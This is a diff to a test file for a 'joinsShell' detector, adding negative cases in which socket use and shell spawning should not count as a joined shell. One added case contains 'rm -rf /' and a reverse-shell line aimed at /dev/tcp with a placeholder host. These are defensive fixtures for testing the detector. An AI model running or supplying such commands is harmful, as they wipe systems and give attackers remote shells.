@@ -36,6 +36,9 @@ describe('a connection beside a program of its own', () => {
     ['a file by its name', 's = socket.create_connection(("localhost", 1))\nsubprocess.run(["bash", script])'],
     ['shells to choose from', 'net.Listen("tcp", ":0")\nvar shells = map[string]bool{"bash": true, "sh": true}'],
     ['output for people', 'const p = spawn("npm", ["test"]); p.stdout.pipe(process.stdout); net.connect(5432)'],
+    ['commands to tell apart', 'net.Listen("tcp", ":0")\nfor _, c := range []string{"rm -rf /", "bash -i >& /dev/tcp/h/1 0>&1"} {'],
+    ['another program', 'const p = spawn("tsserver", ["--stdio"]); net.createServer((s) => { s.pipe(p.stdin); p.stdout.pipe(s) })'],
+    ['names of shells', 'static String[] names = {"sh", "bash"}; new Socket("localhost", p); new ProcessBuilder("bash", "-c", c)'],
     ['no connection', 'subprocess.call(["/bin/sh", "-i"])'],
   ])('%s', (_what, text) => {
     expect(joinsShell(text)).toBe(false)
